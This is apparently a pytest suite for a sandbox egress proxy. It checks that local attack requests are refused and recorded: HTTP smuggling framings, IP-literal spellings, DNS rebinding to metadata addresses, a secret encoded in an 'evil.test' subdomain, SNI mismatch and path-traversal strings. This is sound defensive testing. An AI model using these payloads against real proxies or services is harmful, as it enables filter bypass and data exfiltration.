"""Attacks on the egress proxy, each by a real client against a real server on 127.0.0.1;
each test asserts what the server saw (nothing, when the proxy refused) and what the
sandbox's record says."""
from __future__ import annotations

import os
import socket
import socketserver
import ssl
import subprocess
import threading
import time

import pytest

from egress_servers import Gateway, file_server, http_server
from karotte.egress import EgressLimits

NAMES = {"files.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"],
         "rebind.test": ["127.0.0.1"], "private.test": ["10.11.12.13"],
         "metadata.test": ["169.254.169.254"]}


@pytest.fixture
def gateway():
    with Gateway(NAMES) as gw:
        yield gw


@pytest.fixture
def files(tmp_path):
    with file_server(tmp_path, {"hello.txt": "hello\n"}) as server:
        yield server


@pytest.fixture(scope="module")
def tls_files(tmp_path_factory):
    with file_server(tmp_path_factory.mktemp("tls"), {"hello.txt": "hello over tls\n"},
                     tls_names=["files.test", "evil.test"]) as server:
        yield server


class RawHeads(socketserver.StreamRequestHandler):
    """Keeps every request head it reads, whatever its method or form, in server.seen,
    and answers each "ok" on the kept-alive connection (the requests here have no body)."""

    def handle(self):
        while True:
            head = b""
            while not head.endswith(b"\r\n\r\n"):
                if not (line := self.rfile.readline()):
                    return
                head += line
            self.server.seen.append(head)
            self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")


@pytest.fixture
def heads():
    with http_server(RawHeads) as server:
        yield server


def connect(proxy):
    host, port = proxy[len("http://"):].rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=20)


def read_all(sock):
    chunks = []
    try:
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    except ConnectionResetError:
        pass
    return b"".join(chunks)


def read_response(sock):
    """One response with a Content-Length body, read off a kept-alive connection."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += sock.recv(65536)
    head, _, body = data.partition(b"\r\n\r\n")
    length = next(int(line.split(b":")[1]) for line in head.split(b"\r\n")
                  if line.lower().startswith(b"content-length:"))
    while len(body) < length:
        body += sock.recv(65536)
    return head, body


def get(host, path="/hello.txt", extra=""):
    return f"GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n".encode()


def curl(proxy, *args):
    return subprocess.run(["curl", "-sS", "--max-time", "20", "-x", proxy, *args],
                          capture_output=True, text=True, env={"PATH": os.environ["PATH"]})


def test_EGRESS_HOST_01_a_refused_host_is_never_reached(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    out = curl(proxy, "-i", f"http://evil.test:{files.port}/hello.txt")
    assert "X-Karotte-Egress: not_allowed" in out.stdout
    assert files.seen == [] and "evil.test" not in gateway.asked
    (reach,) = session.record().reaches
    assert (reach.host, reach.allowed, reach.reason) == ("evil.test", False, "not_allowed")


def test_EGRESS_KEEPALIVE_01_a_host_change_on_a_kept_alive_connection_is_checked(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    with connect(proxy) as sock:
        sock.sendall(get(f"files.test:{files.port}"))
        head, body = read_response(sock)
        assert head.startswith(b"HTTP/1.1 200") and body == b"hello\n"
        sock.sendall(get(f"files.test:{files.port}"))  # the same host again: reused
        assert read_response(sock)[1] == b"hello\n"
        sock.sendall(get(f"evil.test:{files.port}"))
        refused = read_all(sock)
    assert refused.startswith(b"HTTP/1.1 403") and b"not_allowed" in refused
    assert [h["Host"] for _, _, h in files.seen] == [f"files.test:{files.port}"] * 2
    assert [(r.host, r.reason) for r in session.record().reaches] == [
        ("files.test", "ok"), ("files.test", "ok"), ("evil.test", "not_allowed")]


def test_EGRESS_KEEPALIVE_01_a_pipelined_second_request_never_rides_the_first(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    with connect(proxy) as sock:
        sock.sendall(get(f"files.test:{files.port}") + get(f"evil.test:{files.port}", "/x"))
        reply = read_all(sock)
    assert reply.count(b"HTTP/1.1 200") == 1 and b"HTTP/1.1 403" in reply
    assert [p for _, p, _ in files.seen] == ["/hello.txt"]


def test_EGRESS_HOSTHDR_01_a_host_header_other_than_the_url_is_refused(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    with connect(proxy) as sock:
        sock.sendall(f"GET http://files.test:{files.port}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
                     .encode())
        reply = read_all(sock)
    assert b"X-Karotte-Egress: host_mismatch" in reply and files.seen == []


def test_EGRESS_SMUGGLE_01_ambiguous_framing_is_refused_before_anything_is_sent(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    smuggled = get(f"evil.test:{files.port}")
    for framing in (f"Content-Length: {len(smuggled)}\r\nTransfer-Encoding: chunked\r\n",
                    "Content-Length: 5\r\nContent-Length: 6\r\n",
                    "Transfer-Encoding: gzip, chunked\r\n"):
        with connect(proxy) as sock:
            sock.sendall(f"POST http://files.test:{files.port}/ HTTP/1.1\r\n"
                         f"Host: files.test:{files.port}\r\n{framing}\r\n".encode() + smuggled)
            assert b"X-Karotte-Egress: bad_request" in read_all(sock)
    assert files.seen == []


@pytest.mark.parametrize("spelling", ["127.0.0.1", "127.1", "2130706433", "0x7f.0.0.1", "[::1]"])
def test_EGRESS_IPLIT_01_an_unlisted_ip_literal_is_refused_in_any_spelling(gateway, files,
                                                                          spelling):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", "*"])
    with connect(proxy) as sock:
        sock.sendall(f"CONNECT {spelling}:{files.port} HTTP/1.1\r\n\r\n".encode())
        assert b"X-Karotte-Egress: ip_literal" in read_all(sock)
    with connect(proxy) as sock:
        sock.sendall(get(f"{spelling}:{files.port}"))
        assert b"X-Karotte-Egress: ip_literal" in read_all(sock)
    assert files.seen == []


def test_a_listed_ip_literal_is_reached(gateway, files):
    session, proxy, _ = gateway.serve([f"127.0.0.1:{files.port}"])
    out = curl(proxy, "-f", f"http://127.0.0.1:{files.port}/hello.txt")
    assert out.stdout == "hello\n"


@pytest.mark.parametrize("name", ["rebind.test", "private.test", "metadata.test"])
def test_EGRESS_REBIND_01_an_allowed_name_resolving_inside_is_refused(gateway, files, name):
    session, proxy, _ = gateway.serve([f"{name}:{files.port}"])
    out = curl(proxy, "-i", f"http://{name}:{files.port}/hello.txt")
    assert "X-Karotte-Egress: internal_address" in out.stdout and files.seen == []
    with connect(proxy) as sock:
        sock.sendall(f"CONNECT {name}:{files.port} HTTP/1.1\r\n\r\n".encode())
        assert b"internal_address" in read_all(sock)
    assert {r.reason for r in session.record().reaches} == {"internal_address"}


def test_EGRESS_DNS_01_a_secret_in_a_refused_name_reaches_no_resolver(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    secret = "c2VjcmV0LWtleQ"
    curl(proxy, f"http://{secret}.evil.test:{files.port}/")
    curl(proxy, f"https://{secret}.evil.test/")
    assert gateway.asked == [] and session.record().reaches[0].reason == "not_allowed"


def tunnel(proxy, authority):
    sock = connect(proxy)
    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    reply = b""
    while b"\r\n\r\n" not in reply:
        reply += sock.recv(4096)
    assert reply.startswith(b"HTTP/1.1 200"), reply
    return sock


def test_EGRESS_SNI_01_a_tunnel_greeting_another_name_than_its_connect_is_cut(gateway,
                                                                            tls_files):
    session, proxy, _ = gateway.serve([f"files.test:{tls_files.port}",
                                       f"127.0.0.1:{tls_files.port}"])
    context = ssl.create_default_context(cafile=tls_files.cert)
    with tunnel(proxy, f"files.test:{tls_files.port}") as sock:
        with context.wrap_socket(sock, server_hostname="files.test") as tls:
            tls.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: files.test\r\n\r\n")
            assert read_response(tls)[1] == b"hello over tls\n"
    seen = len(tls_files.seen)
    with tunnel(proxy, f"files.test:{tls_files.port}") as sock:
        with pytest.raises((ssl.SSLError, OSError)):
            with context.wrap_socket(sock, server_hostname="evil.test") as tls:
                tls.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: evil.test\r\n\r\n")
                tls.recv(1)
    assert len(tls_files.seen) == seen
    reaches = session.record().reaches
    assert (reaches[-1].allowed, reaches[-1].reason) == (False, "sni_mismatch")
    assert "evil.test" in reaches[-1].detail and reaches[-1].bytes_sent == 0


def test_a_tunnel_that_carries_no_tls_is_cut_before_a_byte_goes_on(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    with tunnel(proxy, f"files.test:{files.port}") as sock:
        sock.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        assert read_all(sock) == b""
    assert files.seen == [] and session.record().reaches[0].reason == "not_tls"


def test_an_origin_form_request_to_the_proxy_is_refused_with_the_fix(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}"])
    with connect(proxy) as sock:
        sock.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: files.test\r\n\r\n")
        reply = read_all(sock)
    assert b"not_proxy_request" in reply and b"absolute-form" in reply


def test_EGRESS_ISOLATION_01_two_sessions_do_not_share_permissions(gateway, files):
    a, proxy_a, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"])
    b, proxy_b, _ = gateway.serve([f"evil.test:{files.port}", f"127.0.0.1:{files.port}"])
    assert curl(proxy_a, "-f", f"http://files.test:{files.port}/hello.txt").returncode == 0
    assert curl(proxy_b, "-f", f"http://evil.test:{files.port}/hello.txt").returncode == 0
    assert "403" in curl(proxy_a, "-f", f"http://evil.test:{files.port}/hello.txt").stderr
    assert "403" in curl(proxy_b, "-f", f"http://files.test:{files.port}/hello.txt").stderr
    assert [r.reason for r in a.record().reaches] == ["ok", "not_allowed"]
    assert [r.reason for r in b.record().reaches] == ["ok", "not_allowed"]


# --- limits -----------------------------------------------------------------------

def test_EGRESS_FLOOD_01_connections_past_the_limit_are_refused_by_name(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"],
                                      limits=EgressLimits(max_connections=3))
    held = [connect(proxy) for _ in range(3)]
    try:
        time.sleep(0.2)
        with connect(proxy) as sock:
            reply = read_all(sock)
        assert reply.startswith(b"HTTP/1.1 429") and b"X-Karotte-Egress: connections" in reply
        held[0].sendall(get(f"files.test:{files.port}"))  # those held still work
        assert read_response(held[0])[1] == b"hello\n"
    finally:
        for sock in held:
            sock.close()
    time.sleep(0.2)
    assert curl(proxy, "-f", f"http://files.test:{files.port}/hello.txt").returncode == 0
    assert [r.reason for r in session.record().reaches].count("connections") == 1


def test_EGRESS_FLOOD_01_bytes_past_the_total_cut_the_connection(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"],
                                      limits=EgressLimits(max_bytes=1_000_000,
                                                          bytes_per_second=None))
    out = curl(proxy, "-o", "/dev/null", "-w", "%{size_download}",
               f"http://files.test:{files.port}/big/5000000")
    assert out.returncode != 0 and int(out.stdout) < 1_000_000
    after = curl(proxy, "-i", f"http://files.test:{files.port}/hello.txt")
    assert "X-Karotte-Egress: bytes_total" in after.stdout
    first, second = session.record().reaches
    assert (first.allowed, first.reason) == (True, "bytes_total")
    assert first.bytes_sent + first.bytes_received <= 1_000_000
    assert (second.allowed, second.reason) == (True, "bytes_total")


def test_EGRESS_FLOOD_01_the_pace_is_shared_by_all_connections(gateway, files):
    session, proxy, _ = gateway.serve([f"files.test:{files.port}", f"127.0.0.1:{files.port}"],
                                      limits=EgressLimits(bytes_per_second=2_000_000))
    start = time.monotonic()
    threads = [threading.Thread(target=curl, args=(
        proxy, "-o", "/dev/null", f"http://files.test:{files.port}/big/2000000"))
        for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    elapsed = time.monotonic() - start
    # 6 MB at 2 MB/s, less the first second's burst: at least 2 s, whatever the count
    reaches = session.record().reaches
    assert sum(r.bytes_received for r in reaches) >= 6_000_000, reaches
    assert elapsed >= 1.8, (elapsed, reaches)


def test_EGRESS_SNI_01_an_encrypted_client_hello_is_cut(gateway, tls_files):
    from test_egress_policy import client_hello, with_extension
    session, proxy, _ = gateway.serve([f"files.test:{tls_files.port}",
                                       f"127.0.0.1:{tls_files.port}"])
    with tunnel(proxy, f"files.test:{tls_files.port}") as sock:
        sock.sendall(with_extension(client_hello("files.test"), 0xFE0D, b"\x00" * 32))
        assert read_all(sock) == b""
    reach = session.record().reaches[-1]
    assert (reach.allowed, reach.reason, reach.bytes_sent) == (False, "ech", 0)


def test_a_tunnel_that_carries_nothing_is_cut_when_idle(gateway, tls_files):
    session, proxy, _ = gateway.serve([f"files.test:{tls_files.port}",
                                       f"127.0.0.1:{tls_files.port}"],
                                      limits=EgressLimits(idle_timeout=0.5))
    from test_egress_policy import client_hello
    start = time.monotonic()
    with tunnel(proxy, f"files.test:{tls_files.port}") as sock:
        sock.sendall(client_hello("files.test"))  # then silence: no second flight
        read_all(sock)
    assert time.monotonic() - start < 5
    reach = session.record().reaches[-1]
    assert (reach.allowed, reach.reason) == (True, "idle")


def test_EGRESS_BYPASS_01_an_upstream_listener_goes_through_the_same_check(gateway, files):
    """An upstream's name is allowed by being the upstream; what it resolves to is still
    checked: here the host's loopback, which the allow-list does not list."""
    session, _, ups = gateway.serve([], {"model": f"http://rebind.test:{files.port}"})
    out = subprocess.run(["curl", "-sS", "-i", f"{ups['model']}/hello.txt"],
                         capture_output=True, text=True)
    assert "X-Karotte-Egress: internal_address" in out.stdout and files.seen == []
    (reach,) = session.record().reaches
    assert (reach.via, reach.allowed, reach.reason) == ("upstream:model", False,
                                                        "internal_address")


def test_EGRESS_KEEPALIVE_01_an_origin_form_request_after_an_absolute_form_one_is_refused(
        gateway, heads):
    # The first request opened a connection to files.test; an origin-form request next
    # (its Host another) names no destination of its own and must not ride that one.
    session, proxy, _ = gateway.serve([f"files.test:{heads.port}", f"127.0.0.1:{heads.port}"])
    sneaked = f"GET /secret HTTP/1.1\r\nHost: evil.test:{heads.port}\r\n\r\n".encode()
    with connect(proxy) as sock:
        sock.sendall(get(f"files.test:{heads.port}", "/first"))
        head, body = read_response(sock)
        assert head.startswith(b"HTTP/1.1 200") and body == b"ok\n"
        sock.sendall(sneaked)
        refused = read_all(sock)
    with connect(proxy) as sock:  # pipelined behind the first, in one write
        sock.sendall(get(f"files.test:{heads.port}", "/second") + sneaked)
        pipelined = read_all(sock)
    for reply in (refused, pipelined):
        assert b"X-Karotte-Egress: not_proxy_request" in reply, reply
    assert pipelined.count(b"HTTP/1.1 200") == 1
    assert [h.split(b" ")[1] for h in heads.seen] == [b"/first", b"/second"]
    assert [r.reason for r in session.record().reaches] == [
        "ok", "not_proxy_request", "ok", "not_proxy_request"]


UPSTREAM_REFUSED = {
    "absolute-form": "GET http://evil.test:{port}/x HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n",
    "connect": "CONNECT evil.test:{port} HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n",
    "connect-origin-form": "CONNECT /x HTTP/1.1\r\nHost: files.test:{port}\r\n\r\n",
    "asterisk-form": "OPTIONS * HTTP/1.1\r\nHost: files.test:{port}\r\n\r\n",
}


def _upstream(gateway, heads):
    """A session whose upstream "model" is the raw server, at files.test (a name the
    allow-list does not list: only the upstream's own name and port are allowed)."""
    return gateway.serve([f"127.0.0.1:{heads.port}"],
                         {"model": f"http://files.test:{heads.port}/v1"})


@pytest.mark.parametrize("form", UPSTREAM_REFUSED)
def test_EGRESS_UPSTREAMFORM_01_an_upstream_listener_refuses_what_is_not_origin_form(
        gateway, heads, form):
    # An upstream listener sends each request to its one upstream with the host's
    # credentials; a request that names another destination, or a tunnel, is refused
    # before anything is sent.
    session, _, ups = _upstream(gateway, heads)
    with connect(ups["model"]) as sock:
        sock.sendall(UPSTREAM_REFUSED[form].format(port=heads.port).encode())
        reply = read_all(sock)
    assert reply.startswith(b"HTTP/1.1 400") and b"X-Karotte-Egress: bad_request" in reply
    assert b"origin-form" in reply and heads.seen == [] and gateway.asked == []
    (reach,) = session.record().reaches
    assert (reach.via, reach.allowed, reach.reason) == ("upstream:model", False, "bad_request")


@pytest.mark.parametrize("form", ["absolute-form", "connect"])
def test_EGRESS_UPSTREAMFORM_01_a_kept_alive_upstream_connection_checks_each_request(
        gateway, heads, form):
    session, _, ups = _upstream(gateway, heads)
    sneaked = UPSTREAM_REFUSED[form].format(port=heads.port).encode()
    first = b"GET /a HTTP/1.1\r\nHost: anything\r\n\r\n"
    with connect(ups["model"]) as sock:
        sock.sendall(first)
        head, body = read_response(sock)
        assert head.startswith(b"HTTP/1.1 200") and body == b"ok\n"
        sock.sendall(sneaked)
        refused = read_all(sock)
    with connect(ups["model"]) as sock:  # pipelined behind an origin-form one
        sock.sendall(first + sneaked)
        pipelined = read_all(sock)
    for reply in (refused, pipelined):
        assert b"X-Karotte-Egress: bad_request" in reply, reply
    assert pipelined.count(b"HTTP/1.1 200") == 1
    assert [h.split(b"\r\n")[0] for h in heads.seen] == [b"GET /v1/a HTTP/1.1"] * 2
    assert all(f"Host: files.test:{heads.port}".encode() in h for h in heads.seen)
    assert [r.reason for r in session.record().reaches] == ["ok", "bad_request"] * 2


@pytest.mark.parametrize("target", ["/../admin", "/%2e%2E/admin", "/a/./b", "/a\\..\\admin",
                                    "/x/..?q=1"])
def test_EGRESS_UPSTREAMPATH_01_an_upstream_listener_refuses_a_path_out_of_its_base(
        gateway, heads, target):
    # The upstream's base path is /v1: /v1/../admin is /admin to a server that normalises
    # the path (and %2e or a backslash to one that decodes them), with the host's
    # credentials. A raw socket, as clients normalise dot segments before they send.
    session, _, ups = _upstream(gateway, heads)
    with connect(ups["model"]) as sock:
        sock.sendall(f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        reply = read_all(sock)
    assert reply.startswith(b"HTTP/1.1 400") and b"X-Karotte-Egress: bad_request" in reply
    assert b"base path" in reply and heads.seen == []
    with connect(ups["model"]) as sock:  # what stays below it goes on
        sock.sendall(b"GET /a..b/.well-known HTTP/1.1\r\nHost: x\r\n\r\n")
        head, _ = read_response(sock)
    assert head.startswith(b"HTTP/1.1 200")
    assert [h.split(b"\r\n")[0] for h in heads.seen] == [b"GET /v1/a..b/.well-known HTTP/1.1"]
    assert [r.reason for r in session.record().reaches] == ["bad_request", "ok"]
